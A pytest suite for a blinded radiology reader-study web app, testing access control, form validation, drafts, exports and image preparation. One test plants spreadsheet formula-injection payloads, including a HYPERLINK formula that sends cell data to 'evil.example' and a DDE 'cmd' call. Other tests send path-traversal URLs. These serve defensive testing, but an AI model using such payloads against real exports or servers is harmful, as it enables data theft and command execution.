"""The reading routes: blinded everywhere, 403/404/409/422 as promised, nothing half-stored."""

import json
import re

import pytest
from bs4 import BeautifulSoup
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from app.background import wait_for_background
from app.models import Attempt, JudgeVerdict, Role, Task
from app.settings import Settings
from app.studies.models import Answer, Design, Draft, StudyItem
from app.web.main import create_app
from tests.studies.conftest import StudySetup, make_study


def as_user(engine: Engine, settings: Settings, name: str, role: Role = Role.reader) -> TestClient:
    """A token client for an existing account (make_study made it)."""
    from app.accounts.users import find_user, issue_token

    with Session(engine) as session:
        user = find_user(session, name)
        assert user is not None
        token = issue_token(session=session, user=user)
    return TestClient(create_app(settings, engine), headers={"Authorization": f"Bearer {token}"},
                      raise_server_exceptions=False)


@pytest.fixture
def study(demo_engine: Engine) -> StudySetup:
    return make_study(demo_engine)


@pytest.fixture
def reader(demo_engine: Engine, settings: Settings, study: StudySetup) -> TestClient:
    return as_user(demo_engine, settings, "reader-0")


FORM = {"compliance": "yes", "structure": "no", "realism": "yes", "fidelity": "cannot_assess",
        "overall": "reject", "confidence": "3", "tags": ["wrong_location"], "comment": "x",
        "time_on_case_ms": "4200"}


def secrets_of_study(engine: Engine, study: StudySetup) -> list[str]:
    """Texts that would unblind a reader: judge reasons, outcomes, file names, attempt ids."""
    with Session(engine) as s:
        items = s.scalars(select(StudyItem).where(col(StudyItem.study_id) == study.study.id)).all()
        found = []
        for item in items:
            attempt = s.get(Attempt, item.attempt_id)
            verdict = s.scalars(select(JudgeVerdict).where(
                col(JudgeVerdict.attempt_id) == item.attempt_id)).first()
            task = s.get(Task, item.task_id)
            assert attempt and verdict and task
            found += [verdict.reason or "", (attempt.image_relpath or "").rsplit("/", 1)[-1],
                      task.task_key, f"/images/attempt/{attempt.id}"]
    return [f for f in found if f]


def test_every_reader_response_is_blind(demo_engine: Engine, reader: TestClient,
                                        study: StudySetup) -> None:
    sid = study.study.id
    pages = [reader.get("/read"), reader.get(f"/read/{sid}/1"),
             reader.get(f"/read/{sid}/1", headers={"HX-Request": "true"})]
    html = BeautifulSoup(pages[1].text, "html.parser")
    images = [img["src"] for img in html.select(".reading-panes img")]
    assert all(re.fullmatch(rf"/read/{sid}/image/[0-9a-f]{{24}}/(original|edit)\?size=preview", i)
               for i in images)
    diffs = {v["data-diff"] for v in html.select(".reading-panes .viewport[data-diff]")}
    assert diffs and all(re.fullmatch(rf"/read/{sid}/diff/[0-9a-f]{{24}}\?size=preview", d) for d in diffs)
    pages += [reader.get(i) for i in images + sorted(diffs)]
    assert all(p.status_code == 200 for p in pages)
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-blind-0001"})
    pages.append(reader.get(f"/read/{sid}/1"))  # reveal is "never" in this study
    body = " ".join(p.text if "text" in p.headers.get("content-type", "") else "" for p in pages)
    for secret in secrets_of_study(demo_engine, study):
        assert secret not in body
    for word in ("qualified", "success", "failed-", "round"):
        assert word not in BeautifulSoup(pages[1].text, "html.parser").select_one("#reading").text.lower()


@pytest.mark.parametrize("url", ["/cases", "/cases/1", "/api/cases", "/api/cases/1", "/imports",
                                 "/images/attempt/1", "/images/source/1", "/studies", "/docs"])
def test_readers_cannot_reach_the_judge(reader: TestClient, url: str) -> None:
    assert reader.get(url).status_code == 403


def test_submit_stores_one_version_and_moves_on(demo_engine: Engine, reader: TestClient,
                                                study: StudySetup) -> None:
    sid = study.study.id
    first = reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-twice-0001"},
                        follow_redirects=False)
    again = reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-twice-0001"},
                        follow_redirects=False)
    assert first.status_code == again.status_code == 303
    assert reader.get(f"/read/{sid}", follow_redirects=False).headers["location"] == f"/read/{sid}/2"
    with Session(demo_engine) as s:
        [stored] = s.scalars(select(Answer)).all()
    assert stored.time_on_case_ms == 4200 and stored.tags == '["wrong_location"]'


@pytest.mark.parametrize("change, field", [({"confidence": "9"}, "confidence"),
                                           ({"tags": ["looks_odd"]}, "tags"),
                                           ({"realism": "perhaps"}, "realism")])
def test_bad_answers_are_422_with_the_reason_and_nothing_stored(
        demo_engine: Engine, reader: TestClient, study: StudySetup, change: dict, field: str) -> None:
    response = reader.post(f"/read/{study.study.id}/1",
                           data=FORM | change | {"submission_id": "sub-bad-00001"})
    assert response.status_code == 422
    page = BeautifulSoup(response.text, "html.parser")
    assert page.select(".field-error") and page.select_one("#answer-form") is not None
    with Session(demo_engine) as s:
        assert s.scalars(select(Answer)).all() == []


def test_optional_fields_may_be_left_out(demo_engine: Engine, reader: TestClient,
                                         study: StudySetup) -> None:
    """Scripts send only what is required; an absent comment was once a silent 422."""
    required = {k: FORM[k] for k in ("compliance", "structure", "realism", "fidelity",
                                     "overall", "confidence")}
    response = reader.post(f"/read/{study.study.id}/1",
                           data=required | {"submission_id": "sub-minimal-01"}, follow_redirects=False)
    assert response.status_code == 303
    with Session(demo_engine) as s:
        [stored] = s.scalars(select(Answer)).all()
    assert stored.comment == "" and stored.tags == "[]" and stored.time_on_case_ms is None


def test_a_reused_submission_id_is_a_409(demo_engine: Engine, reader: TestClient,
                                        study: StudySetup) -> None:
    sid = study.study.id
    assert reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-reused-001"},
                       follow_redirects=False).status_code == 303
    response = reader.post(f"/read/{sid}/2", data=FORM | {"submission_id": "sub-reused-001"})
    assert response.status_code == 409
    message = BeautifulSoup(response.text, "html.parser").select_one("#error-box")
    assert message is not None and "another case" in message.get_text()
    with Session(demo_engine) as s:
        assert len(s.scalars(select(Answer)).all()) == 1


def test_an_error_in_a_hidden_field_is_shown(reader: TestClient, study: StudySetup) -> None:
    response = reader.post(f"/read/{study.study.id}/1", data=FORM | {"submission_id": "x"})
    assert response.status_code == 422
    error = BeautifulSoup(response.text, "html.parser").select_one("#error-submission_id")
    assert error is not None and "submission id" in error.get_text()


def test_not_assigned_unknown_and_locked(demo_engine: Engine, settings: Settings,
                                         reader: TestClient, study: StudySetup) -> None:
    sid = study.study.id
    outsider = as_user(demo_engine, settings, "outsider")
    assert outsider.get(f"/read/{sid}/1").status_code == 403
    assert outsider.get(f"/read/{sid}").status_code == 403
    uid = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser").select_one(
        "#img-edit")["src"].split("/")[4]
    assert outsider.get(f"/read/{sid}/image/{uid}/edit").status_code == 403
    assert reader.get(f"/read/{sid}/image/{'0' * 24}/edit").status_code == 404
    assert reader.get(f"/read/{sid}/image/../../etc/edit").status_code in (404, 422)
    assert reader.get("/read/9999/1").status_code == 404
    assert reader.get(f"/read/{sid}/999").status_code == 404
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    assert admin.post(f"/studies/{sid}/lock", follow_redirects=False).status_code == 303
    locked = reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-locked-001"})
    assert locked.status_code == 409
    assert reader.put(f"/read/{sid}/1/draft", json={"comment": "x"}).status_code == 409
    with Session(demo_engine) as s:
        assert s.scalars(select(Answer)).all() == []


def test_drafts_survive_a_reload_and_undo_reopens(reader: TestClient, study: StudySetup) -> None:
    sid = study.study.id
    assert reader.put(f"/read/{sid}/1/draft", json={"compliance": "no", "comment": "half done",
                                                    "submission_id": "sub-draft-0001"}).status_code == 204
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one('input[name="compliance"][value="no"]').has_attr("checked")
    assert page.select_one("textarea").text == "half done"
    assert page.select_one('input[name="submission_id"]')["value"] == "sub-draft-0001"
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-draft-0001"})
    undone = reader.post(f"/read/{sid}/undo", follow_redirects=False)
    assert undone.headers["location"] == f"/read/{sid}/1"
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one("#answered") is None
    assert page.select_one('input[name="structure"][value="no"]').has_attr("checked")
    assert reader.put(f"/read/{sid}/1/draft", json={"c": "x" * 20_000}).status_code == 422


def test_an_older_draft_arriving_late_never_overwrites_a_newer_one(
        reader: TestClient, study: StudySetup, demo_engine: Engine) -> None:
    sid = study.study.id
    put = lambda body: reader.put(f"/read/{sid}/1/draft", json=body)  # noqa: E731
    assert put({"comment": "newer", "edition": 2_000}).status_code == 204
    late = put({"comment": "older", "edition": 1_000})  # sent first, answered last
    box = BeautifulSoup(late.text, "html.parser").select_one("#error-box")
    assert late.status_code == 409 and "newer draft" in box.text
    assert put({"comment": "same edition again", "edition": 2_000}).status_code == 204
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one("textarea").text == "same edition again"
    with Session(demo_engine) as s:
        [draft] = s.scalars(select(Draft)).all()
    assert draft.edition == 2_000 and "edition" not in json.loads(draft.payload)
    # A draft the server writes itself (an undone answer) carries no edition, and the
    # screen's next save, whatever its edition, replaces it.
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-edition-01"})
    assert reader.post(f"/read/{sid}/undo", follow_redirects=False).status_code == 303
    with Session(demo_engine) as s:
        assert s.scalars(select(Draft)).one().edition is None
    assert put({"comment": "after", "edition": 5}).status_code == 204
    assert put({"comment": "x", "edition": -1}).status_code == 422


def test_admin_creates_a_stratified_study_from_a_filter(demo_engine: Engine, settings: Settings,
                                                        study: StudySetup) -> None:
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    form = BeautifulSoup(admin.get("/studies/new?modality=chest_xray").text, "html.parser")
    # The default is the validation design: both verdicts, with each stratum's pool shown.
    assert form.select_one('input[name="design"][value="validation"]').has_attr("checked")
    rows = form.select("#strata-table tbody tr")
    pools = {r["data-stratum"]: int(r.select_one(".pool").text) for r in rows}
    assert pools == {"fail/add/chest_xray": 84, "fail/remove/chest_xray": 79,
                     "pass/add/chest_xray": 53, "pass/remove/chest_xray": 52}
    # Counts in proportion to the pool (here the whole pool: 268 of the 300 offered), so the
    # figures are the data set's at no cost in reads; the form says both.
    assert {i["name"][2:]: int(i["value"]) for i in form.select('#strata-table input')} == pools
    assert "the data set's agreement" in form.select_one("#figure-scope").text
    assert "as efficient as drawing single edits" in form.select_one("#allocation-cost").text
    uneven = BeautifulSoup(admin.get(
        "/studies/new/allocation?modality=chest_xray&design=validation&facets=verdict"
        "&facets=direction&facets=modality&n:fail/add/chest_xray=84&n:fail/remove/chest_xray=5"
        "&n:pass/add/chest_xray=53&n:pass/remove/chest_xray=52").text, "html.parser")
    assert "% more reads" in uneven.select_one("#allocation-cost").text
    readers = [r.id for r in study.readers]
    data = {"name": "second", "design": "validation", "facets": ["verdict", "direction"],
            "n:pass/add": "3", "n:fail/add": "3", "n:pass/remove": "3", "n:fail/remove": "3",
            "seed": "7", "readers": [str(r) for r in readers], "blinded": "true",
            "primary_question": "overall", "plan_agreement": "0.81", "plan_half_width": "0.05"}
    created = admin.post("/studies?modality=chest_xray", data=data, follow_redirects=False)
    wait_for_background()  # its images are drawn in a thread of its own
    assert created.status_code == 303
    detail = BeautifulSoup(admin.get(created.headers["location"]).text, "html.parser")
    assert [r.select_one(".done").text for r in detail.select(".reader-progress")] == ["0", "0"]
    assert "verdict fail · direction add: 3 of 84" in detail.select_one("#study-strata").text
    assert "the data set's agreement" in detail.select_one("#figure-scope").text
    assert detail.select_one("#strata-list") is None  # four strata: shown in the open
    # Many strata were a wall that pushed the live figures below the fold at 1024 wide.
    wide = {"name": "by disease", "design": "validation", "facets": ["verdict", "disease"],
            "seed": "7", "readers": [str(r) for r in readers], "blinded": "true",
            "primary_question": "overall", "plan_agreement": "0.81", "plan_half_width": "0.05"}
    form_page = BeautifulSoup(admin.get("/studies/new?modality=chest_xray&design=validation"
                                        "&facets=verdict&facets=disease").text, "html.parser")
    for box in form_page.select('#strata-table input[type="number"]'):
        wide[box["name"]] = "1"
    made = admin.post("/studies?modality=chest_xray", data=wide, follow_redirects=False)
    assert made.status_code == 303, made.text[:500]
    many = BeautifulSoup(admin.get(made.headers["location"]).text, "html.parser")
    folded = many.select_one("#study-strata details#strata-list")
    assert folded is not None and not folded.has_attr("open")
    assert folded.select_one("summary").text.startswith(f"{len(folded.select('.criterion'))} strata")
    too_many = admin.post("/studies?modality=chest_xray", data=data | {"name": "third", "n:pass/add": "500"})
    assert too_many.status_code == 422
    page = BeautifulSoup(too_many.text, "html.parser")
    assert page.select_one("#study-error li").text == (
        "stratum verdict pass · direction add has 53 in its pool; 500 were asked")
    assert page.select_one('input[name="name"]')["value"] == "third"  # the form keeps what was typed
    bad = admin.post("/studies", data=data | {"name": "fourth", "n:pass/add": "lots"})
    assert bad.status_code == 422 and "whole number" in bad.text
    crafted = admin.post("/studies", data=data | {"name": "sixth", "n:pass/add/extra/part": "2"})
    assert crafted.status_code == 422 and "'pass/add/extra/part' has 0 in its pool" in BeautifulSoup(
        crafted.text, "html.parser").select_one("#study-error li").text
    odd_plan = admin.post("/studies", data=data | {"name": "seventh", "plan_edits_per_image": "many"})
    assert odd_plan.status_code == 422 and "planner" in odd_plan.text
    unread = {k: v for k, v in data.items() if k != "readers"}
    nobody = admin.post("/studies", data=unread | {"name": "fifth"})
    assert nobody.status_code == 422
    page = BeautifulSoup(nobody.text, "html.parser")
    # The message stands beside the readers, and the rest of the form is as typed.
    assert page.select_one("#field-readers #error-readers").text == "tick at least one reader"
    assert page.select_one("#field-readers")["aria-invalid"] == "true"
    assert page.select_one('input[name="name"]')["value"] == "fifth"
    assert page.select_one('input[name="seed"]')["value"] == "7"
    assert page.select_one('input[name="blinded"]').has_attr("checked")


def test_a_study_form_refused_field_by_field_keeps_everything_typed(
        demo_engine: Engine, settings: Settings, study: StudySetup) -> None:
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    data = {"name": "typed", "design": "accepted", "total": "many", "seed": "-3",
            "readers": [str(study.readers[0].id)], "instructions": "Read at a workstation.",
            "viewer_tools": ["window", "magnifier"]}
    refused = admin.post("/studies", data=data)
    assert refused.status_code == 422
    page = BeautifulSoup(refused.text, "html.parser")
    assert page.select_one("#error-total").text == "enter a whole number"
    assert page.select_one("#error-seed").text == "at least 0"
    assert "choose one of" in page.select_one("#error-viewer_tools").text
    assert page.select_one('input[name="name"]')["value"] == "typed"
    assert page.select_one('input[name="total"]')["value"] == "many"
    assert page.select_one("textarea[name=instructions]").text == "Read at a workstation."
    assert page.select_one(f'input[name="readers"][value="{study.readers[0].id}"]').has_attr("checked")
    assert page.select_one('input[name="design"][value="accepted"]').has_attr("checked")
    assert "body." not in page.select_one("#study-error").text  # worded for people


def test_the_strata_and_the_planner_answer_as_fragments(demo_engine: Engine, settings: Settings,
                                                        study: StudySetup) -> None:
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    accepted = admin.get("/studies/new/strata?modality=chest_xray&design=accepted",
                         headers={"HX-Request": "true"})
    fragment = BeautifulSoup(accepted.text, "html.parser")
    assert "<html" not in accepted.text and fragment.select_one("#strata") is not None
    assert {r["data-stratum"] for r in fragment.select("#strata-table tbody tr")} == {"add", "remove"}
    refused = admin.get("/studies/new/strata?design=accepted&facets=verdict", headers={"HX-Request": "true"})
    assert "only a validation study" in BeautifulSoup(refused.text, "html.parser").select_one(
        "#strata-problem").text
    plan = admin.get("/studies/new/plan?plan_agreement=0.81&plan_half_width=0.05"
                     "&plan_edits_per_image=4&plan_icc=0.215", headers={"HX-Request": "true"})
    assert BeautifulSoup(plan.text, "html.parser").select_one("#plan-cases strong").text == "390"
    for query, field in (("plan_agreement=1.5&plan_half_width=0.05", "plan_agreement"),
                         ("plan_agreement=0.8&plan_half_width=0", "plan_half_width"),
                         # Was a 500 (division by zero), and "614633411311059968 cases".
                         ("plan_agreement=0.9&plan_half_width=1e-300", "plan_half_width"),
                         ("plan_agreement=0.9&plan_half_width=1e-9", "plan_half_width"),
                         ("plan_agreement=1e-300&plan_half_width=0.05", "plan_agreement"),
                         ("plan_agreement=0.8&plan_half_width=0.05&plan_edits_per_image=1e300",
                          "plan_edits_per_image"),
                         ("plan_agreement=0.8&plan_half_width=0.05&plan_icc=abc", "plan_icc")):
        bad = admin.get(f"/studies/new/plan?{query}", headers={"HX-Request": "true"})
        error = BeautifulSoup(bad.text, "html.parser").select_one("#plan-error")
        assert bad.status_code == 422 and error is not None and error["data-field"] == field, query


def test_progress_shows_for_readers_and_admins(demo_engine: Engine, settings: Settings,
                                               reader: TestClient, study: StudySetup) -> None:
    sid = study.study.id
    for n in (1, 2):
        reader.post(f"/read/{sid}/{n}", data=FORM | {"submission_id": f"sub-prog-000{n}"})
    mine = BeautifulSoup(reader.get("/read").text, "html.parser")
    assert "2 of 8" in mine.select_one("#my-studies").text
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    partial = admin.get(f"/studies/{sid}", headers={"HX-Request": "true"})
    rows = BeautifulSoup(partial.text, "html.parser").select(".reader-progress")
    assert {r["data-reader"]: r.select_one(".done").text for r in rows} == {"reader-0": "2",
                                                                            "reader-1": "0"}


def test_export_streams_every_version_even_after_lock(demo_engine: Engine, settings: Settings,
                                                      reader: TestClient, study: StudySetup) -> None:
    import csv
    import io

    sid = study.study.id
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-exp-00001"})
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-exp-00002", "overall": "accept"})
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    admin.post(f"/studies/{sid}/lock")
    response = admin.get(f"/studies/{sid}/answers.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["reader"], r["version"], r["overall"]) for r in rows] == [
        ("reader-0", "1", "reject"), ("reader-0", "2", "accept")]
    assert rows[0]["time_on_case_ms"] == "4200" and rows[0]["task_key"]
    assert reader.get(f"/studies/{sid}/answers.csv").status_code == 403


def test_design_export_records_the_sample_and_each_readers_order(
        demo_engine: Engine, settings: Settings, reader: TestClient, study: StudySetup) -> None:
    import csv
    import io

    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    response = admin.get(f"/studies/{study.study.id}/design.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_reader: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_reader.setdefault(row["reader"], []).append(row)
    assert sorted(by_reader) == ["reader-0", "reader-1"]
    orders = [[r["item"] for r in reads] for reads in by_reader.values()]
    assert all([int(r["sequence"]) for r in reads] == list(range(1, 9)) for reads in by_reader.values())
    assert set(orders[0]) == set(orders[1]) and len(set(orders[0])) == 8  # fully crossed
    assert orders[0] != orders[1]  # each reader has an order of their own
    assert {r["stratum"] for r in rows} == {"add", "remove"} and {r["seed"] for r in rows} == {"42"}
    assert len({r["order_seed"] for r in rows}) == 2
    assert reader.get(f"/studies/{study.study.id}/design.csv").status_code == 403


def test_every_page_says_the_data_is_synthetic(demo_engine: Engine, settings: Settings,
                                               reader: TestClient, study: StudySetup) -> None:
    """The banner was once on the case pages only, not where readers work."""
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    pages = [(reader, f"/read/{study.study.id}/1"), (reader, "/read"),
             (admin, f"/studies/{study.study.id}"), (admin, "/studies"), (admin, "/cases")]
    for client, url in pages:
        page = BeautifulSoup(client.get(url).text, "html.parser")
        assert page.select_one("#synthetic-banner") is not None, url


def test_the_reader_sees_every_version_and_an_edit_in_progress(reader: TestClient,
                                                               study: StudySetup) -> None:
    sid = study.study.id
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-hist-00001"})
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-hist-00002", "overall": "accept"})
    reader.post(f"/read/{sid}/undo")
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    rows = page.select("#answer-history tr.version")
    assert [r.select_one("td").get_text() for r in rows] == ["1", "2", "3"]
    assert [("retracted" in r["class"]) for r in rows] == [False, False, True]
    # Editing an answered case: the unsent change survives a reload.
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-hist-00003"})
    assert reader.put(f"/read/{sid}/1/draft", json={"overall": "accept", "comment": "on reflection"}
                      ).status_code == 204
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one('input[name="overall"][value="accept"]').has_attr("checked")
    assert page.select_one('textarea[name="comment"]').get_text() == "on reflection"


ROI = '{"kind":"rect","points":[[0.2,0.3],[0.6,0.7]]}'


def test_the_region_is_stored_with_the_answer_and_shown_again(demo_engine: Engine, reader: TestClient,
                                                              study: StudySetup) -> None:
    sid = study.study.id
    assert reader.put(f"/read/{sid}/1/draft", json={"roi": ROI, "submission_id": "sub-roi-00001"}
                      ).status_code == 204
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one("#roi-input")["value"] == ROI
    response = reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-roi-00001", "roi": ROI},
                           follow_redirects=False)
    assert response.status_code == 303
    with Session(demo_engine) as s:
        [stored] = s.scalars(select(Answer)).all()
    assert stored.roi == ROI
    page = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    assert page.select_one("#roi-input")["value"] == ROI  # the answer in force, after the draft


@pytest.mark.parametrize("roi", ['{"kind":"rect","points":[[0.2,0.3],[1.6,0.7]]}', "{not json",
                                 '{"kind":"freehand","points":[[0.1,0.1]]}'])
def test_a_bad_region_is_a_422_and_nothing_is_stored(demo_engine: Engine, reader: TestClient,
                                                     study: StudySetup, roi: str) -> None:
    response = reader.post(f"/read/{study.study.id}/1",
                           data=FORM | {"submission_id": "sub-roi-bad01", "roi": roi})
    assert response.status_code == 422
    assert BeautifulSoup(response.text, "html.parser").select_one("#error-roi") is not None
    with Session(demo_engine) as s:
        assert s.scalars(select(Answer)).all() == []


def test_the_blinded_difference_map(demo_engine: Engine, settings: Settings, reader: TestClient,
                                    study: StudySetup) -> None:
    sid = study.study.id
    html = BeautifulSoup(reader.get(f"/read/{sid}/1").text, "html.parser")
    url = html.select_one(".viewport[data-diff]")["data-diff"]
    first = reader.get(url)
    assert first.status_code == 200 and first.headers["content-type"] == "image/png"
    assert reader.get(url, headers={"If-None-Match": first.headers["etag"]}).status_code == 304
    assert reader.get(f"/read/{sid}/diff/{'0' * 24}").status_code == 404
    assert reader.get(f"/read/{sid}/diff/../../x").status_code in (404, 422)
    assert as_user(demo_engine, settings, "outsider").get(url).status_code == 403


def test_a_validation_studys_frozen_verdict_never_reaches_its_readers(
        demo_engine: Engine, settings: Settings) -> None:
    """The sample is stratified by the judge's verdict; neither the stratum nor the frozen
    verdict may show on any page, fragment or image a blinded reader can fetch."""
    from tests.studies.conftest import make_study

    setup = make_study(demo_engine, design=Design.validation)
    sid = setup.study.id
    reader = as_user(demo_engine, settings, "reader-0")
    with Session(demo_engine) as s:
        items = s.scalars(select(StudyItem).where(col(StudyItem.study_id) == sid)).all()
        verdicts = [s.get(JudgeVerdict, i.judge_verdict_id) for i in items]
    pages = [reader.get("/read")]
    for n in range(1, len(items) + 1):
        pages += [reader.get(f"/read/{sid}/{n}"),
                  reader.get(f"/read/{sid}/{n}", headers={"HX-Request": "true"})]
    assert all(p.status_code == 200 for p in pages)
    text = "\n".join(p.text for p in pages)
    text += "\n".join(f"{k}: {v}" for p in pages for k, v in p.headers.items())
    for stratum in {i.stratum for i in items}:
        assert stratum not in text
    for verdict in verdicts:
        assert verdict is not None
        if verdict.reason:
            assert verdict.reason not in text
    shown = BeautifulSoup(pages[1].text, "html.parser").select_one("#reading").get_text().lower()
    assert "verdict" not in shown and "qualified" not in shown


def test_an_admin_records_a_readers_qualification_for_the_report(
        demo_engine: Engine, settings: Settings, study: StudySetup) -> None:
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    reader_id = study.readers[0].id
    sid = study.study.id
    saved = admin.post(f"/studies/{sid}/readers/{reader_id}", follow_redirects=False,
                       data={"qualification": "consultant radiologist", "experience_years": "12"})
    assert saved.status_code == 303
    confirmed = BeautifulSoup(admin.get(saved.headers["location"]).text, "html.parser")
    assert confirmed.select_one(
        '#reader-descriptions tr[data-reader="reader-0"] .saved[role=status]').text == "Saved"
    page = BeautifulSoup(admin.get(f"/studies/{sid}").text, "html.parser")
    row = page.select_one('#reader-descriptions tr[data-reader="reader-0"]')
    # Each input under its own header (the years were 800 px from theirs), in the row's form.
    headers = [th.text for th in page.select("#reader-descriptions thead th")]
    cells = row.select("td")
    years_at = headers.index("Years of experience")
    assert cells[years_at].select_one('input[name="experience_years"]')["form"] == \
        row.select_one("form")["id"]
    assert cells[headers.index("Qualification")].select_one('input[name="qualification"]')
    assert row.select_one('input[name="qualification"]')["value"] == "consultant radiologist"
    assert row.select_one('input[name="experience_years"]')["value"] == "12"
    report = BeautifulSoup(admin.get(f"/studies/{sid}/report.html").text, "html.parser")
    assert "consultant radiologist" in report.select_one("#reader-table").get_text()
    # Named as its verdicts recorded it: the demo's are imported, their model not recorded.
    title = report.select_one("#title").get_text()
    assert "agreement of the run's own judge (model not recorded) with radiologists" in title
    assert "Gemini" not in title
    url = f"/studies/{sid}/readers/{reader_id}"
    assert admin.post(url, data={"experience_years": "200"}).status_code == 422
    assert admin.post(f"/studies/{sid}/readers/{study.outsider.id}", data={}).status_code == 404
    blank = admin.post(url, data={"qualification": "", "experience_years": ""}, follow_redirects=False)
    assert blank.status_code == 303  # a blank field clears what the report would say
    cleared = BeautifulSoup(admin.get(f"/studies/{sid}").text, "html.parser").select_one(
        '#reader-descriptions tr[data-reader="reader-0"]')
    assert cleared.select_one('input[name="experience_years"]')["value"] == ""
    assert cleared.select_one('input[name="qualification"]')["value"] == ""
    reader = as_user(demo_engine, settings, "reader-0")
    assert reader.post(f"/studies/{sid}/readers/{reader_id}", data={}).status_code == 403


def test_exports_neutralise_spreadsheet_formulas(demo_engine: Engine, settings: Settings,
                                                 reader: TestClient, study: StudySetup) -> None:
    import csv
    import io

    sid = study.study.id
    with Session(demo_engine) as s:  # imported text that a spreadsheet would run
        item = s.scalars(select(StudyItem).where(col(StudyItem.study_id) == sid)).first()
        assert item is not None
        task = s.get(Task, item.task_id)
        assert task is not None
        task.task_key = "@SUM(1+1)*cmd|' /C calc'!A0"
        s.commit()
    comment = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-formula-1", "comment": comment})
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    rows = list(csv.DictReader(io.StringIO(admin.get(f"/studies/{sid}/answers.csv").text)))
    assert rows[0]["comment"] == "'" + comment
    design = list(csv.DictReader(io.StringIO(admin.get(f"/studies/{sid}/design.csv").text)))
    assert {r["task_key"] for r in design if r["task_key"].startswith(("'@", "@"))} == {
        "'@SUM(1+1)*cmd|' /C calc'!A0"}


def test_readers_wait_until_every_image_of_a_new_study_is_drawn(
        demo_engine: Engine, settings: Settings, study: StudySetup, reader: TestClient) -> None:
    """A first view slower than a cached one tells a reader nobody opened that image before:
    a study opens only when all of its images are drawn, and says how far that is."""
    from app.studies.models import Study
    from app.studies.previews import mark_preparing, prepare_unfinished

    sid = study.study.id
    with Session(demo_engine) as session:
        row = session.get(Study, sid)
        assert row is not None
        mark_preparing(session, row)
        uid = session.exec(select(StudyItem.uid).where(StudyItem.study_id == sid)).first()
    for path in (f"/read/{sid}", f"/read/{sid}/1", f"/read/{sid}/image/{uid}/edit"):
        refused = reader.get(path, follow_redirects=False)
        assert refused.status_code == 409, path
        assert "preparing images (0 of 8)" in refused.text
    # Nothing is stored while it prepares either: an answer, an undo, a draft (they were 303).
    for refused in (
            reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "early-00001"},
                        follow_redirects=False),
            reader.post(f"/read/{sid}/undo", follow_redirects=False),
            reader.put(f"/read/{sid}/1/draft", json={"comment": "early"})):
        assert refused.status_code == 409 and "preparing images" in refused.text
    with Session(demo_engine) as session:
        assert session.exec(select(Answer)).all() == [] and session.exec(select(Draft)).all() == []
    listed = BeautifulSoup(reader.get("/read").text, "html.parser")
    assert listed.select_one(f'.preparing[data-study="{sid}"]').text == "preparing images (0 of 8)"
    assert listed.select_one("#my-studies a.continue") is None
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    shown = BeautifulSoup(admin.get(f"/studies/{sid}", headers={"HX-Request": "true"}).text,
                          "html.parser")
    assert "Preparing images (0 of 8)" in shown.select_one("#study-preparing").text
    # A process that stopped mid-way: the next start takes the drawing up again.
    prepare_unfinished(demo_engine, settings.resolved_cache_dir())
    assert reader.get(f"/read/{sid}/1").status_code == 200
    assert BeautifulSoup(admin.get(f"/studies/{sid}").text, "html.parser").select_one(
        "#study-preparing") is None


def test_a_study_made_in_the_browser_is_drawn_before_it_opens(
        demo_engine: Engine, settings: Settings, study: StudySetup,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from app.studies.models import Study
    from app.web.routes import studies as studies_route

    seen: list[bool] = []
    real = studies_route.warm_previews

    def watching(engine: Engine, study_id: int, cache_dir: object) -> int:
        with Session(engine) as session:
            row = session.get(Study, study_id)
            assert row is not None
            seen.append(row.images_ready)  # closed to readers while drawing
        return real(engine, study_id, cache_dir)  # type: ignore[arg-type]

    monkeypatch.setattr(studies_route, "warm_previews", watching)
    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
    made = admin.post("/studies?modality=chest_xray&outcome=success", data={
        "name": "drawn first", "design": "accepted", "facets": "direction",
        "readers": str(study.readers[0].id), "seed": "7", "n:add": "2", "n:remove": "2"},
        follow_redirects=False)
    assert made.status_code == 303, made.text[:500]
